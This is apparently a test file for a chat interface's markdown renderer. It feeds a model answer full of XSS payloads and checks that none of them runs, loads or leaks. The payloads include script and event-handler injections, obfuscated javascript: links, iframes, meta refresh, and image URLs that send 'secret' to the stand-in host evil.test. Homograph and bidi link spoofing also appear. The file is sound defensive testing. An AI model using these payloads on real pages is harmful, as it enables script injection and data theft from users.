import { expect, test } from 'vitest';
import { fixturePage } from './fixture-page.ts';
import { makeMessage, makeStep, makeTurn } from './fixture-state.ts';
import { findingsInBothSchemes } from './page-checks.ts';

const { host, open } = fixturePage();
const answer = (text: string): void => {
  host().state.messages = [makeMessage(1)];
  host().state.turns = [makeTurn({ steps: [makeStep('a', 0, { text })] })];
};
const run = 'window.hacked = (window.hacked ?? 0) + 1';

/** Written by a model, or by whoever wrote what it read: each would run, call home or mislead in a careless window. */
const harm = [
  `<script>${run}</script>`,
  `<img src="https://evil.test/a.png" onerror="${run}">`,
  `<svg onload="${run}"><a xlink:href="javascript:${run}">x</a></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe><object data="https://evil.test/o"></object>`,
  `<style>@import 'https://evil.test/s.css'; body { background: url(https://evil.test/b) }</style><link rel="stylesheet" href="https://evil.test/l.css">`,
  `<form action="https://evil.test/f"><input autofocus onfocus="${run}"><button>Approve</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/m"><base href="https://evil.test/">`,
  `<details open ontoggle="${run}"><summary>x</summary></details><div id="root" class="py-ask">Allowed</div>`,
  `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](java\tscript:${run}) [d](&#106;avascript:${run}) [e](javascript&colon;${run})`,
  `[f](data:text/html,<script>${run}</script>) [g](vbscript:x) [h](file:///etc/passwd) [i](//evil.test/p) [j](/api/session) [k](#/settings) [l](pynchy://open)`,
  `![m](https://evil.test/p.png?d=secret) ![n](data:image/svg+xml;base64,PHN2Zy8+) ![o](//evil.test/q.png) ![p](file:///etc/passwd) ![q](/blobs/../api/session)`,
  `[r]: javascript:${run}\n\n[r] ![r] <javascript:${run}> <https://evil.test/auto> javascript:${run}`,
  '```html\n<script>window.hacked = 1</script>\n```',
  '`<img src=x onerror=window.hacked=1>`',
  `| a | b |\n|---|---|\n| <b onmouseover="${run}">x</b> | [s](javascript:${run}) |`,
  `\u202e[txet](https://evil.test/bidi)\u202c \u200b[zero\u200bwidth](https://evil.test/zero)`,
  `- [x] <input type="file" onchange="${run}">\n\n[^1]\n\n[^1]: <img src=x onerror="${run}">`,
  '$$\\href{javascript:window.hacked=1}{x}$$\n\n```mermaid\ngraph TD; A-->B; click A "javascript:window.hacked=1"\n```',
].join('\n\n');

test('what an answer says runs nothing, loads nothing and leads nowhere but to addresses that can be read', async () => {
  answer(harm);
  const { page } = await open({ path: '#/accounts' });
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(`${host().url}/`)) elsewhere.push(request.url());
  });
  const opened: string[] = [];
  page.context().on('page', (other) => opened.push(other.url()));
  await page.goto(`${host().url}/#/chat/chat-1`);
  const article = page.getByRole('article', { name: /^Pynchy/ });
  await article.getByText('mermaid').waitFor();
  for (const gone of [
    'script',
    'iframe',
    'object',
    'svg a',
    'form',
    'style',
    'meta',
    'base',
    'details',
    'img',
    'input:not([type=checkbox])',
    '#root',
  ])
    expect(await article.locator(`.py-markdown ${gone}`).count(), gone).toBe(0);
  const links = await article
    .locator('.py-markdown a')
    .evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.textContent, a.getAttribute('rel'), a.getAttribute('target')]));
  expect(links).toHaveLength(4);
  expect(links.map(([href]) => href).filter((href) => !/^https:\/\/evil\.test\/|^#user-content-fn/.test(href ?? ''))).toEqual([]);
  expect(links.filter(([href, text]) => href?.startsWith('https:') && !text?.includes('evil.test'))).toEqual([]);
  expect(
    links.filter(([href, , rel, target]) => href?.startsWith('https:') && (rel !== 'noopener noreferrer' || target !== '_blank')),
  ).toEqual([]);
  expect(await page.evaluate('window.hacked')).toBeUndefined();
  expect(elsewhere).toEqual([]);
  expect(opened).toEqual([]);
});

test('a link whose words name another place says where it leads', async () => {
  answer(
    'Pay at [https://bank.example](https://evil.test/?d=secret), read [the **guide**](https://docs.example/a), https://docs.example/b, <https://bank.example@evil.test/>, https://\u0430pple.example/ or write to ann@docs.example.',
  );
  const { page } = await open();
  const links = page.getByRole('article', { name: /^Pynchy/ }).locator('.py-markdown a');
  await links.first().waitFor();
  expect(await links.allTextContents()).toEqual([
    'https://bank.example (evil.test)',
    'the guide (docs.example)',
    'https://docs.example/b',
    'https://bank.example@evil.test/ (evil.test)',
    'https://\u0430pple.example/ (xn--pple-43d.example)',
    'ann@docs.example',
  ]);
  expect(await links.first().getAttribute('title')).toBe('https://evil.test/?d=secret');
  expect(await findingsInBothSchemes(page)).toEqual([]);
  if (process.env.PYNCHY_SHOTS) await page.screenshot({ path: `${process.env.PYNCHY_SHOTS}/links.png` });
});

test('an answer that is nested a thousand times, or one huge table, is shown and leaves the window usable', async () => {
  answer(
    `${'> '.repeat(1000)}deep\n\n${'['.repeat(2000)}${']('.repeat(2000)}\n\n| ${'a | '.repeat(200)}\n|${'---|'.repeat(200)}\n${`| ${'b | '.repeat(200)}\n`.repeat(20)}\n\nThe end.`,
  );
  const { page } = await open();
  await page.getByText('The end.').waitFor({ timeout: 40_000 });
  await page.getByRole('textbox', { name: /Message to/ }).fill('still there');
  expect(await page.getByRole('textbox', { name: /Message to/ }).inputValue()).toBe('still there');
});
